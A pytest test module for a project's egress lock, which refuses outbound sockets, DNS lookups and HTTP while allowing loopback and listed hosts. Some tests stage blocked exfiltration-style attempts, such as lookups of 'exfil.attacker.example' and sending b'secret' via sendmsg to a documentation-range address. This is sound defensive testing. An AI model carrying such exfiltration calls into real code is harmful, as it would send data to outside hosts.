"""The egress lock refuses real outbound connections, records them, and leaves loopback alone.

The whole test suite runs under the lock (tests/conftest.py installs it before any test module is
imported and fails the session if any outbound attempt was recorded); these tests show that the lock
really is on and really blocks.
"""

from __future__ import annotations

import _socket
import http.server
import json
import os
import socket
import subprocess
import sys
import threading
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path

import pytest

from inhouse.guard import egress
from inhouse.guard.egress import EgressBlocked, EgressLock
from tests.conftest import EGRESS

# TEST-NET-1 (RFC 5737): reserved for documentation, routed nowhere; a real connect would hang or fail.
OUTSIDE = "192.0.2.1"


def test_the_suite_runs_under_the_lock() -> None:
    assert egress.current() is EGRESS and EGRESS.enabled and EGRESS.allow == ()
    assert socket.socket.connect is not _socket.socket.connect  # wrapped, not the C method
    # Nothing before this test tried to leave the machine (the session hook checks the rest of the run).
    assert EGRESS.attempts == []


@pytest.mark.parametrize(
    "attempt",
    [
        lambda: socket.create_connection((OUTSIDE, 80), timeout=1),
        lambda: socket.socket().connect((OUTSIDE, 443)),
        lambda: socket.socket(socket.AF_INET6).connect(("2001:db8::1", 443)),
        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (OUTSIDE, 53)),
        lambda: socket.getaddrinfo("example.com", 443),
        lambda: urllib.request.urlopen(f"http://{OUTSIDE}/", timeout=1),
    ],
    ids=["create_connection", "connect", "connect-ipv6", "udp-sendto", "dns", "urllib"],
)
def test_outbound_is_refused_and_recorded(attempt) -> None:
    with EGRESS.capture() as seen, pytest.raises((EgressBlocked, urllib.error.URLError)) as info:
        attempt()
    assert "egress lock" in str(info.value) and "INHOUSE_EGRESS_ALLOW" in str(info.value)
    assert len(seen) == 1 and not seen[0].allowed


def test_connect_ex_refuses_too() -> None:
    s = socket.socket()
    try:
        with EGRESS.capture() as seen, pytest.raises(EgressBlocked):
            s.connect_ex((OUTSIDE, 80))
    finally:
        s.close()
    assert [a.call for a in seen] == ["socket.connect_ex"]


def test_loopback_http_works() -> None:
    class Hello(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write("안녕".encode())

        def log_message(self, *args) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hello)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        with EGRESS.capture() as seen:
            for host in ("127.0.0.1", "localhost"):
                with urllib.request.urlopen(f"http://{host}:{server.server_port}/", timeout=5) as r:
                    assert r.read().decode() == "안녕"
        assert seen == []  # loopback is not an outbound attempt
    finally:
        server.shutdown()
        server.server_close()


def test_allow_list_rules() -> None:
    lock = EgressLock(allow=("models.internal", "*.corp.example", "10.20.0.0/16", "203.0.113.7"))
    for ok in ("models.internal", "a.corp.example", "corp.example", "10.20.3.4", "203.0.113.7", "127.0.0.5", "::1",
               "localhost", "[::1]"):
        assert lock.host_allowed(ok), ok
    for bad in ("example.com", "corp.example.evil.com", "evilcorp.example", "10.21.0.1", "203.0.113.8", "8.8.8.8"):
        assert not lock.host_allowed(bad), bad
    assert EgressLock(enabled=False).host_allowed("example.com")
    assert lock.host_allowed(socket.gethostname())  # this machine's own name


def test_install_reads_star_as_off_and_keeps_the_record() -> None:
    try:
        lock = egress.install(["*"])
        assert lock is EGRESS and not lock.enabled and lock.host_allowed("example.com")
    finally:
        egress.install(())
    assert EGRESS.enabled and EGRESS.allow == ()
    # install_default never loosens an installed lock (the suite's stays loopback-only).
    os.environ[egress.ENV] = "*"
    try:
        assert egress.install_default() is EGRESS and EGRESS.enabled
    finally:
        del os.environ[egress.ENV]


def _cli(args: list[str], env: dict[str, str], home: Path) -> subprocess.CompletedProcess[str]:
    full = {**os.environ, "INHOUSE_HOME": str(home), "INHOUSE_EMBEDDER": "hash", **env}
    code = "import sys; from inhouse.cli.main import main; sys.exit(main(sys.argv[1:]))"
    return subprocess.run([sys.executable, "-c", code, *args], env=full, capture_output=True, text=True, timeout=120)


def test_cli_process_starts_locked_and_doctor_shows_it(inhouse_home: Path) -> None:
    r = _cli(["doctor", "--json"], {}, inhouse_home)
    assert r.returncode == 0, r.stderr
    report = json.loads(r.stdout)
    assert report["egress"]["enabled"] is True and report["egress"]["allow"] == []
    assert {"models", "store", "versions"} <= report.keys() and report["versions"]["inhouse"]
    r = _cli(["doctor", "--json"], {egress.ENV: "models.internal, 10.0.0.0/8"}, inhouse_home)
    assert json.loads(r.stdout)["egress"]["allow"] == ["models.internal", "10.0.0.0/8"]
    r = _cli(["doctor"], {egress.ENV: "*"}, inhouse_home)
    assert "egress lock OFF" in r.stdout


def test_cli_process_refuses_outbound(inhouse_home: Path) -> None:
    """A command run through `main` is locked (main installs the lock; importing the CLI does not)."""
    code = (
        "import socket, sys\n"
        "from inhouse.cli.main import cli, main\n"
        "from inhouse.guard import egress\n"
        "assert egress.current() is None, 'importing the CLI installed the lock'\n"
        "@cli.command()\n"
        "def probe():\n"
        "    try:\n"
        f"        socket.create_connection(('{OUTSIDE}', 80), timeout=1)\n"
        "    except OSError as e:\n"
        "        print(type(e).__name__)\n"
        "sys.exit(main(['probe']))\n"
    )
    env = {**os.environ, "INHOUSE_HOME": str(inhouse_home)}
    r = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=60)
    assert r.stdout.strip() == "EgressBlocked", r.stderr


def test_server_app_installs_the_lock(inhouse_home: Path) -> None:
    code = (
        "from inhouse.guard import egress\n"
        "from inhouse.config import Settings\n"
        "from inhouse.server.app import create_app\n"
        "assert egress.current() is None\n"
        "create_app(embedder=None, settings=Settings(embedder='hash'))\n"
        "print(egress.current().state()['enabled'])\n"
    )
    env = {**os.environ, "INHOUSE_HOME": str(inhouse_home)}
    r = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=120)
    assert r.stdout.strip() == "True", r.stderr


def _refused(call: Callable[[], object]) -> list[egress.Attempt]:
    with EGRESS.capture() as seen:
        with pytest.raises(egress.EgressBlocked):
            call()
    return seen


def test_dns_lookups_and_sendmsg_are_refused() -> None:
    """Calls without a wrapper of their own are caught by the audit hook: name lookups, sendmsg."""
    name = "exfil.attacker.example"
    for call, event in ((lambda: socket.gethostbyname(name), "socket.gethostbyname"),
                        (lambda: socket.gethostbyname_ex(name), "socket.gethostbyname"),
                        (lambda: socket.gethostbyaddr(OUTSIDE), "socket.gethostbyaddr")):
        assert [(a.host, a.call) for a in _refused(call)][-1][1] == event
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        seen = _refused(lambda: s.sendmsg([b"secret"], [], 0, (OUTSIDE, 53)))
    assert [(a.host, a.call, a.allowed) for a in seen] == [(OUTSIDE, "socket.sendmsg", False)]
    assert socket.gethostbyname("localhost") == "127.0.0.1"  # loopback names still resolve


def test_direct_use_of_the_c_socket_module_is_refused() -> None:
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    try:
        seen = _refused(lambda: s.connect((OUTSIDE, 80)))
    finally:
        s.close()
    assert [(a.host, a.call) for a in seen] == [(OUTSIDE, "socket.connect")]
    seen = _refused(lambda: _socket.getaddrinfo("exfil.attacker.example", 443))
    assert [a.call for a in seen] == ["socket.getaddrinfo"]


def test_session_hook_fails_a_run_that_swallowed_an_outbound_attempt(tmp_path: Path) -> None:
    """The suite-wide check: a test that tries to connect out and hides the error still fails the run."""
    root = Path(__file__).resolve().parents[2]
    leaky = tmp_path / "test_leaky.py"
    leaky.write_text(
        "import socket\n\n"
        "def test_swallows_the_error():\n"
        "    try:\n"
        f"        socket.create_connection(('{OUTSIDE}', 80), timeout=1)\n"
        "    except OSError:\n"
        "        pass\n",
        "utf-8",
    )
    r = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "tests.conftest", "--rootdir", str(root),
                        "-c", str(root / "pyproject.toml"), str(leaky)],
                       cwd=root, capture_output=True, text=True, timeout=120)
    assert r.returncode == 1, r.stdout + r.stderr
    assert "tried 1 outbound connection" in r.stdout
    assert f"socket.create_connection -> {OUTSIDE}:80 (refused)" in r.stdout


def test_doctor_says_when_search_terms_are_from_an_older_analyser(inhouse_home: Path) -> None:
    from inhouse.config import Settings
    from inhouse.ingest import ingest
    from inhouse.store import SQLiteStore
    from inhouse.text import TERMS_VERSION

    docs = inhouse_home / "docs"
    docs.mkdir(parents=True)
    (docs / "a.md").write_text("# 인형\n\n캐시 크루즈 회사는 1990년에 경영권을 넘겼다.\n", "utf-8")
    store = SQLiteStore(inhouse_home / "inhouse.db")
    ingest(store, Settings(embedder="hash"), [docs], "acme")
    r = _cli(["doctor", "--json"], {}, inhouse_home)
    assert json.loads(r.stdout)["store"]["terms_current"] is True
    store.set_meta("terms_version", "2")
    store.close()
    r = _cli(["doctor", "--json"], {}, inhouse_home)
    s = json.loads(r.stdout)["store"]
    assert s["terms_version"] == "2" and s["terms_current"] is False
    r = _cli(["doctor"], {}, inhouse_home)
    assert f"analyser version 2 (now {TERMS_VERSION})" in r.stdout and "inhouse ingest" in r.stdout
